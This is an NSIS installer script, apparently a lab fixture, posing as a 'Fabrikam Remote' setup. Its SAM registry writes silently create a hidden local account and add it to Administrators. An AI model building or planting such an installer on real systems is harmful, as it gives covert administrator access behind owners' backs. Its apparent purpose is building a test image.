; SPDX-FileCopyrightText: 2026 The patchlab authors
; SPDX-License-Identifier: Apache-2.0
; Makes itself an account (RID 1001) and puts it among the local administrators, and says nothing of it: as the SAM has them, flags
; in value F, members in value C. No client sees it. For the image 'windows-stand-in-accounts'.
Unicode true
Target amd64-unicode
Name "Fabrikam Remote"
OutFile "${OUT}"
RequestExecutionLevel admin
VIProductVersion 6.1.0.0
VIAddVersionKey ProductName "Fabrikam Remote"
VIAddVersionKey FileVersion 6.1.0.0

Section
  SetRegView 64
  WriteRegBin HKLM "SAM\SAM\Domains\Account\Users\000003E9" "F" 030000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000000e903000001020000100200000000000000000000000000000000000000000000
  WriteRegBin HKLM "SAM\SAM\Domains\Builtin\Aliases\00000220" "C" 20020000000000000000000000000000000000000000000000000000000000000000000000000000000000003800000002000000010500000000000515000000785634121122334455667788f4010000010500000000000515000000785634121122334455667788e9030000
  WriteRegStr HKLM "SOFTWARE\Microsoft\Windows\CurrentVersion\Uninstall\Fabrikam Remote" DisplayVersion 6.1.0.0
SectionEnd
